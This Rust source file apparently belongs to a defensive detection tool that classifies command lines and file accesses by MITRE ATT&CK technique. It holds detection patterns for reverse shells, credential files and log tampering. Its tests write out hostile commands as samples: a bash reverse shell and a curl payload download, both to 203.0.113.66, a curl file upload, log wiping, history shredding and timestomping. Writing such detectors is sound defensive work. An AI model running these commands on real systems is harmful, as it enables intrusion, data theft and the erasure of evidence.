//! What a command line or a file access means, by ATT&CK. A small table of well-known acts; findings' own techniques come first.

use crate::model::{Action, Tactic};

macro_rules! acts {
    ($($name:ident = $tactic:ident $technique:literal $title:literal $verb:literal;)*) => {
        $(pub(crate) const $name: Action = Action { tactic: Tactic::$tactic, technique: $technique, name: $title, verb: $verb };)*
        const ALL: &[Action] = &[$($name),*];
    };
}

acts! {
    SCAN_WEB = Reconnaissance "T1595.003" "Wordlist Scanning" "guessed paths on the web server";
    // First of its technique, so what a finding alone says: rules give it to any service that others can reach.
    EXPLOIT_SERVICE = InitialAccess "T1190" "Exploit Public-Facing Application" "ran commands through a service that others can reach";
    EXPLOIT_WEB = InitialAccess "T1190" "Exploit Public-Facing Application" "made the web application run commands";
    TRY_WEB = InitialAccess "T1190" "Exploit Public-Facing Application" "sent requests to the web server";
    TRY_LOGON = InitialAccess "T1078" "Valid Accounts" "tried to sign in from outside";
    LOGON_OUTSIDE = InitialAccess "T1078" "Valid Accounts" "signed in from outside";
    WEB_SHELL = Persistence "T1505.003" "Web Shell" "left or used a script in the web server's folders";
    REVERSE_SHELL = Execution "T1059.004" "Unix Shell" "opened a shell to an outside address";
    POWERSHELL = Execution "T1059.001" "PowerShell" "ran PowerShell";
    SCRIPT = Execution "T1059" "Command and Scripting Interpreter" "ran a script";
    SERVICE_RUN = Execution "T1569.002" "Service Execution" "ran as a service";
    USERS = Discovery "T1033" "System Owner/User Discovery" "looked around";
    SYSTEM = Discovery "T1082" "System Information Discovery" "looked around";
    PROCESSES = Discovery "T1057" "Process Discovery" "looked around";
    CONNECTIONS = Discovery "T1049" "System Network Connections Discovery" "looked around";
    NETWORK = Discovery "T1016" "System Network Configuration Discovery" "looked around";
    FILES = Discovery "T1083" "File and Directory Discovery" "looked around";
    ACCOUNTS = Discovery "T1087.001" "Local Account" "looked around";
    GROUPS = Discovery "T1069.001" "Local Groups" "looked around";
    REMOTE_SYSTEMS = Discovery "T1018" "Remote System Discovery" "looked around";
    SCAN = Discovery "T1046" "Network Service Discovery" "scanned the network";
    SHADOW = CredentialAccess "T1003.008" "/etc/passwd and /etc/shadow" "read password hashes";
    LSASS = CredentialAccess "T1003.001" "LSASS Memory" "read the memory that holds credentials";
    SAM = CredentialAccess "T1003.002" "Security Account Manager" "copied the account database";
    SECRETS = CredentialAccess "T1552.001" "Credentials In Files" "looked for passwords in files";
    KEYS = CredentialAccess "T1552.004" "Private Keys" "read private keys";
    HISTORY_READ = CredentialAccess "T1552.003" "Shell History" "read shell histories";
    GUESS = CredentialAccess "T1110.001" "Password Guessing" "guessed passwords";
    SUDO = PrivilegeEscalation "T1548.003" "Sudo and Sudo Caching" "ran commands as another user through sudo";
    SETUID = PrivilegeEscalation "T1548.001" "Setuid and Setgid" "used set-uid rights";
    UNIT = Persistence "T1543.002" "Systemd Service" "left a systemd unit";
    WINDOWS_SERVICE = Persistence "T1543.003" "Windows Service" "installed a service";
    CRON = Persistence "T1053.003" "Cron" "left a cron job";
    TASK = Persistence "T1053.005" "Scheduled Task" "left a scheduled task";
    AUTHORIZED_KEYS = Persistence "T1098.004" "SSH Authorized Keys" "changed authorized keys";
    ACCOUNT = Persistence "T1136.001" "Local Account" "created an account";
    ACCOUNT_CHANGE = Persistence "T1098" "Account Manipulation" "changed an account";
    RC = Persistence "T1037.004" "RC Scripts" "changed a start script";
    PROFILE = Persistence "T1546.004" "Unix Shell Configuration Modification" "changed a shell profile";
    PRELOAD = Persistence "T1574.006" "Dynamic Linker Hijacking" "changed what programs load at start";
    RUN_KEY = Persistence "T1547.001" "Registry Run Keys / Startup Folder" "changed what starts at sign-in";
    MODULE = Persistence "T1547.006" "Kernel Modules and Extensions" "loaded a kernel module";
    FETCH = CommandAndControl "T1105" "Ingress Tool Transfer" "fetched files from elsewhere";
    TALK = CommandAndControl "T1071" "Application Layer Protocol" "talked to an outside address";
    TUNNEL = CommandAndControl "T1572" "Protocol Tunneling" "opened a tunnel";
    SSH = LateralMovement "T1021.004" "SSH" "signed in over ssh";
    RDP = LateralMovement "T1021.001" "Remote Desktop Protocol" "signed in by remote desktop";
    WINRM = LateralMovement "T1021.006" "Windows Remote Management" "ran a PowerShell session from another machine";
    SMB = LateralMovement "T1021.002" "SMB/Windows Admin Shares" "signed in over the network";
    TRANSFER = LateralMovement "T1570" "Lateral Tool Transfer" "used files on an administrative share";
    ARCHIVE = Collection "T1560.001" "Archive via Utility" "packed files";
    STAGE = Collection "T1074.001" "Local Data Staging" "gathered files";
    DATABASE = Collection "T1213.006" "Databases" "dumped a database";
    UPLOAD = Exfiltration "T1048.003" "Exfiltration Over Unencrypted Non-C2 Protocol" "uploaded files";
    UPLOAD_TLS = Exfiltration "T1048.002" "Exfiltration Over Asymmetric Encrypted Non-C2 Protocol" "uploaded files";
    UPLOAD_CLOUD = Exfiltration "T1567.002" "Exfiltration to Cloud Storage" "uploaded files";
    DELETE = DefenseEvasion "T1070.004" "File Deletion" "removed files";
    CLEAR_LOGS = DefenseEvasion "T1070.002" "Clear Linux or Mac System Logs" "tampered with logs";
    CLEAR_EVENT_LOG = DefenseEvasion "T1070.001" "Clear Windows Event Logs" "cleared event logs";
    CLEAR_HISTORY = DefenseEvasion "T1070.003" "Clear Command History" "removed command histories";
    TIMESTOMP = DefenseEvasion "T1070.006" "Timestomp" "set false file times";
    STOP_LOGGING = DefenseEvasion "T1562.001" "Disable or Modify Tools" "stopped logging";
    INJECT = DefenseEvasion "T1055" "Process Injection" "ran code inside another process";
    RENAME_EXEC = DefenseEvasion "T1036" "Masquerading" "hid what it ran";
    DESTROY = Impact "T1485" "Data Destruction" "destroyed data";
}

/// The act of that technique, for techniques that findings name.
pub(crate) fn by_technique(uid: &str) -> Option<Action> {
    ALL.iter().find(|action| action.technique == uid).copied()
}

/// Whether a command connects a shell to another machine.
fn opens_shell(name: &str, cmd: &str) -> bool {
    let pipes = matches!(name, "nc" | "ncat" | "socat" | "netcat");
    cmd.contains("/dev/tcp/") || (pipes && (cmd.contains(" -e") || cmd.contains("exec:")))
}

/// What starting this command means; `None` when it says nothing by itself.
pub(crate) fn of_command(name: &str, cmd_line: &str) -> Option<Action> {
    let cmd = cmd_line.to_lowercase();
    let words: Vec<&str> = cmd.split_whitespace().map(|word| word.trim_matches(['"', '\''])).collect();
    let base = |word: &str| word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe").to_owned();
    let name =
        if name.is_empty() { words.first().map(|word| base(word)).unwrap_or_default() } else { base(&name.to_lowercase()) };
    let shell = is_shell(&name);
    if opens_shell(&name, &cmd) {
        return Some(REVERSE_SHELL);
    }
    if shell {
        // A shell that only wraps one command means what the command means; the command itself is an event of its own.
        return (matches!(name.as_str(), "powershell" | "pwsh")
            && (cmd.contains(" -e") || cmd.contains("iex") || cmd.contains("downloadstring")))
        .then_some(POWERSHELL);
    }
    let has = |word: &str| words.contains(&word);
    let any = |parts: &[&str]| parts.iter().any(|part| cmd.contains(part));
    Some(match name.as_str() {
        "sudo" | "doas" => {
            if words.iter().skip(1).any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains('l'))
                && words.len() <= 3
            {
                GROUPS
            } else {
                SUDO
            }
        }
        "pkexec" => SETUID,
        // The host process of a remote session; nothing else starts it.
        "wsmprovhost" => WINRM,
        "whoami" | "id" | "w" | "who" | "last" | "lastlog" | "users" | "groups" | "quser" | "qwinsta" | "logname" => USERS,
        "hostname" | "uname" | "lsb_release" | "hostnamectl" | "lscpu" | "dmesg" | "systeminfo" | "uptime" | "lsmod" | "arch" => {
            SYSTEM
        }
        "ps" | "pstree" | "tasklist" | "pgrep" => PROCESSES,
        "ss" | "netstat" | "lsof" => CONNECTIONS,
        "ip" | "ifconfig" | "route" | "arp" | "ipconfig" | "iptables" | "nft" | "resolvectl" => NETWORK,
        "getent" => ACCOUNTS,
        "net" | "net1" if any(&[" /add"]) => ACCOUNT,
        "net" | "net1" => ACCOUNTS,
        "nmap" | "masscan" | "zmap" | "rustscan" | "fping" => SCAN,
        "nltest" | "adfind" | "nbtscan" => REMOTE_SYSTEMS,
        "useradd" | "adduser" => ACCOUNT,
        "usermod" | "chpasswd" | "passwd" | "gpasswd" | "groupadd" | "chage" => ACCOUNT_CHANGE,
        "crontab" if !has("-l") => CRON,
        "at" | "batch" => CRON,
        "schtasks" if any(&["/create", "/change"]) => TASK,
        "sc" if any(&[" create", " config"]) => WINDOWS_SERVICE,
        "systemctl" | "service" | "kill" | "pkill" | "killall" if stops_logging(&cmd) => STOP_LOGGING,
        "systemctl" if any(&[" enable", " daemon-reload", " link"]) => UNIT,
        "insmod" | "modprobe" => MODULE,
        "auditctl" if any(&[" -d", " -e 0", " -e0"]) => STOP_LOGGING,
        "setenforce" | "chattr" => STOP_LOGGING,
        "journalctl" if cmd.contains("--vacuum") || cmd.contains("--rotate") => CLEAR_LOGS,
        "wevtutil" if any(&[" cl", "clear-log"]) => CLEAR_EVENT_LOG,
        "curl" if uploads(&words) => over(&cmd),
        "wget" if any(&["--post-file", "--body-file"]) => over(&cmd),
        "rclone" | "gsutil" | "azcopy" | "megacmd" => UPLOAD_CLOUD,
        "curl" | "wget" | "fetch" | "certutil" | "bitsadmin" | "ftp" | "tftp" => FETCH,
        "ssh"
            if words.iter().any(|word| matches!(*word, "-r" | "-d" | "-l") && cmd.contains(':') && cmd.contains(" -n"))
                && any(&[" -r ", " -d "]) =>
        {
            TUNNEL
        }
        "chisel" | "frpc" | "ngrok" | "cloudflared" => TUNNEL,
        "pg_dump" | "pg_dumpall" | "mysqldump" | "mongodump" | "sqlcmd" => DATABASE,
        "tar" | "zip" | "7z" | "7za" | "rar" | "gzip" | "bzip2" | "xz" | "zstd"
            if packs(&name, &words) && !any(&["-cf /dev/null"]) =>
        {
            ARCHIVE
        }
        "split" | "dd" => STAGE,
        "mimikatz" | "procdump" | "nanodump" | "lazagne" => LSASS,
        "reg" if any(&[" save ", " export "]) && any(&["\\sam", "\\security", "\\system"]) => SAM,
        "reg" if cmd.contains(" add ") && cmd.contains("\\run") => RUN_KEY,
        "hydra" | "medusa" | "ncrack" | "john" | "hashcat" | "sshpass" => GUESS,
        "touch"
            if words.iter().any(|word| {
                matches!(*word, "-r" | "-d" | "-t") || word.starts_with("--date") || word.starts_with("--reference")
            }) =>
        {
            TIMESTOMP
        }
        "truncate" | "shred" | "rm" | "unlink" | "sed" | "cp" | "mv" | "tee" | "cat" | "ln" | "del" | "wipe" => {
            return of_files(&name, &cmd, &words);
        }
        "grep" | "egrep" | "fgrep" | "rg" | "awk" | "head" | "tail" | "less" | "more" | "strings" | "base64" | "xxd" | "vi"
        | "vim" | "nano" | "type" | "findstr" => return of_files(&name, &cmd, &words),
        "find" | "ls" | "du" | "df" | "tree" | "locate" | "dir" | "stat" | "mount" | "lsblk" => {
            if any(&["/.ssh"]) {
                KEYS
            } else {
                FILES
            }
        }
        _ => return None,
    })
}

/// What touching this file means, by path and kind of access.
pub(crate) fn of_file(path: &str, activity_id: u32) -> Option<Action> {
    let lower = path.to_lowercase();
    let written = matches!(activity_id, 1 | 3 | 5);
    if is_log(&lower) && matches!(activity_id, 3..=5) {
        return Some(CLEAR_LOGS);
    }
    if is_history(&lower) {
        return match activity_id {
            4 => Some(CLEAR_HISTORY),
            _ => None,
        };
    }
    if written {
        return Some(match () {
            () if lower.ends_with("authorized_keys") || lower.ends_with("authorized_keys2") => AUTHORIZED_KEYS,
            () if lower.contains("/systemd/system/") || lower.contains("/systemd/user/") => UNIT,
            () if lower.contains("/etc/cron") || lower.contains("/spool/cron/") => CRON,
            () if lower.ends_with("/etc/rc.local") || lower.contains("/etc/init.d/") => RC,
            () if lower.ends_with("/.bashrc")
                || lower.ends_with("/.profile")
                || lower.contains("/etc/profile")
                || lower.ends_with("/.bash_profile") =>
            {
                PROFILE
            }
            () if lower.ends_with("/ld.so.preload") => PRELOAD,
            () if lower.contains("\\start menu\\programs\\startup\\") => RUN_KEY,
            () => return None,
        });
    }
    (activity_id == 2).then(|| secret(&lower)).flatten()
}

/// Whether a path is a log that others rely on.
pub(crate) fn is_log(path: &str) -> bool {
    (path.contains("/var/log/")
        || path.ends_with("/wtmp")
        || path.ends_with("/btmp")
        || path.ends_with("/lastlog")
        || path.ends_with("/utmp"))
        && !path.ends_with("/var/log/")
}

fn is_history(path: &str) -> bool {
    path.ends_with("_history") || path.ends_with(".zhistory")
}

pub(crate) fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash"
            | "dash"
            | "ash"
            | "zsh"
            | "ksh"
            | "fish"
            | "cmd"
            | "powershell"
            | "pwsh"
            | "busybox"
            | "su"
            | "env"
            | "nohup"
            | "setsid"
            | "timeout"
            | "xargs"
            | "script"
            | "screen"
            | "tmux"
    )
}

fn stops_logging(cmd: &str) -> bool {
    let service = ["rsyslog", "syslog", "auditd", "journald", "auditbeat", "filebeat", "falco", "osquery", "sysmon"]
        .iter()
        .any(|name| cmd.contains(name));
    service && !cmd.contains(" start ") && !cmd.contains(" status")
}

fn uploads(words: &[&str]) -> bool {
    // Words are in lower case: `-t` is curl's -T (or telnet's -t, which nobody uses), `-f` may be -F or -f.
    words.iter().enumerate().any(|(at, word)| {
        let next = words.get(at + 1).copied().unwrap_or("");
        matches!(*word, "-t" | "--upload-file")
            || word.starts_with("--upload-file=")
            || (matches!(*word, "-f" | "--form" | "-d" | "--data" | "--data-binary") && next.contains('@'))
    })
}

fn over(cmd: &str) -> Action {
    if cmd.contains("https://") { UPLOAD_TLS } else { UPLOAD }
}

fn packs(name: &str, words: &[&str]) -> bool {
    let rest = words.get(1..).unwrap_or_default();
    match name {
        "tar" => {
            rest.first().is_some_and(|word| word.trim_start_matches('-').contains('c') && !word.starts_with("--"))
                || rest.iter().any(|word| *word == "--create" || (word.starts_with("-c") && word.len() < 6))
        }
        "zip" | "7z" | "7za" | "rar" => true,
        _ => !rest.iter().any(|word| matches!(*word, "-d" | "--decompress" | "-t" | "-l")),
    }
}

fn of_files(name: &str, cmd: &str, words: &[&str]) -> Option<Action> {
    let paths = || words.iter().skip(1).filter(|word| !word.starts_with('-'));
    let destroys = matches!(name, "truncate" | "shred" | "rm" | "unlink" | "del" | "wipe");
    let edits = matches!(name, "sed") && words.iter().any(|word| word.starts_with("-i") || *word == "--in-place");
    if (destroys || edits || matches!(name, "cp" | "mv" | "tee" | "ln")) && paths().any(|path| is_log(path)) {
        return Some(CLEAR_LOGS);
    }
    if destroys {
        let only_history = paths().all(|path| is_history(path));
        return Some(if only_history && paths().next().is_some() { CLEAR_HISTORY } else { DELETE });
    }
    if matches!(name, "ln" | "tee" | "cp" | "mv") {
        return paths().next_back().and_then(|path| of_file(path, 1)).or_else(|| paths().find_map(|path| secret(path)));
    }
    if let Some(found) = paths().find_map(|path| secret(path)) {
        return Some(found);
    }
    let searches = matches!(name, "grep" | "egrep" | "fgrep" | "rg" | "findstr");
    if searches && ["passw", "secret", "token", "credential", "api_key", "apikey"].iter().any(|part| cmd.contains(part)) {
        return Some(SECRETS);
    }
    let reads = matches!(name, "cat" | "less" | "more" | "head" | "tail" | "type");
    if !reads {
        return None;
    }
    paths().find_map(|path| {
        Some(match *path {
            "/etc/passwd" | "/etc/group" => ACCOUNTS,
            "/etc/hosts" | "/etc/resolv.conf" => REMOTE_SYSTEMS,
            path if path.ends_with("/known_hosts") => REMOTE_SYSTEMS,
            path if path.contains("-release") || path == "/etc/issue" || path.starts_with("/proc/") => SYSTEM,
            path if path.starts_with("/etc/cron") || path.starts_with("/etc/sudoers") => FILES,
            _ => return None,
        })
    })
}

fn secret(path: &str) -> Option<Action> {
    let base = path.rsplit(['/', '\\']).next().unwrap_or(path);
    Some(match () {
        () if path.ends_with("/etc/shadow") || path.ends_with("/etc/gshadow") || base == "shadow-" => SHADOW,
        () if base.starts_with("id_") && !path.ends_with(".pub")
            || path.ends_with(".pem")
            || path.ends_with(".key")
            || path.ends_with(".ppk") =>
        {
            KEYS
        }
        () if is_history(path) => HISTORY_READ,
        () if base.starts_with("wp-config")
            || matches!(
                base,
                ".env"
                    | ".pgpass"
                    | ".my.cnf"
                    | ".netrc"
                    | ".git-credentials"
                    | "credentials"
                    | "config.ini"
                    | "secrets.yml"
                    | "web.config"
                    | "unattend.xml"
                    | "database.yml"
                    | "settings.py"
                    | "config.php"
            ) =>
        {
            SECRETS
        }
        () if base.ends_with(".kdbx") || base == "ntds.dit" => SAM,
        () => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_findings_technique_claims_no_web_server() {
        assert_eq!(by_technique("T1190"), Some(EXPLOIT_SERVICE));
    }

    #[test]
    fn commands_mean_what_they_do() {
        for (cmd, want) in [
            ("id", "T1033"),
            ("cat /etc/shadow", "T1003.008"),
            ("cat /root/.ssh/id_ed25519", "T1552.004"),
            ("grep -rniE passw|secret /opt --include=*.ini", "T1552.001"),
            ("curl -s -o /dev/shm/.p http://203.0.113.66/p", "T1105"),
            ("curl -s -A sync/1.0 -T /tmp/x http://cdn.example/aa", "T1048.003"),
            ("tar -czf /tmp/x.tgz -C /srv documents", "T1560.001"),
            ("sudo -n -l", "T1069.001"),
            ("sudo -n tar -cf /dev/null /dev/null --checkpoint=1", "T1548.003"),
            ("truncate -s 0 /var/log/wtmp", "T1070.002"),
            ("sed -i /10.0.0.1/d /var/log/auth.log", "T1070.002"),
            ("rm -f /tmp/x", "T1070.004"),
            ("shred -u /home/a/.bash_history", "T1070.003"),
            ("touch -r /etc/hostname /etc/x", "T1070.006"),
            ("useradd -m -s /bin/bash -G sudo svc", "T1136.001"),
            ("nmap -sT 10.0.0.0/24", "T1046"),
            (r"C:\windows\system32\wsmprovhost.exe -Embedding", "T1021.006"),
            ("pg_dump -h db shipments", "T1213.006"),
            ("bash -c bash -i >& /dev/tcp/203.0.113.66/443 0>&1", "T1059.004"),
        ] {
            assert_eq!(of_command("", cmd).map(|action| action.technique), Some(want), "{cmd}");
        }
        for cmd in ["sh -c id", "tar -xzf x.tgz", "ls2", "sleep 5", "cat /srv/data.txt"] {
            assert_eq!(of_command("", cmd), None, "{cmd}");
        }
        assert_eq!(of_file("/etc/systemd/system/x.service", 1).map(|a| a.technique), Some("T1543.002"));
        assert_eq!(of_file("/home/v/.ssh/authorized_keys", 3).map(|a| a.technique), Some("T1098.004"));
        assert_eq!(of_file("/var/log/wtmp", 3).map(|a| a.technique), Some("T1070.002"));
    }
}
